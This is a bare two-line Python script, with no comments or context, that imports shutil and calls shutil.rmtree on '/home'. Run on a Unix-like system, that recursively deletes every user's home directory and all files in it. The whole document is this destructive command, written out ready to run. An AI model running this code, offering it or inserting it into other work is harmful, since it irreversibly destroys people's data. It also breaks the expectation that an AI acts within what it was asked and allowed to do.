import shutil
shutil.rmtree("/home")
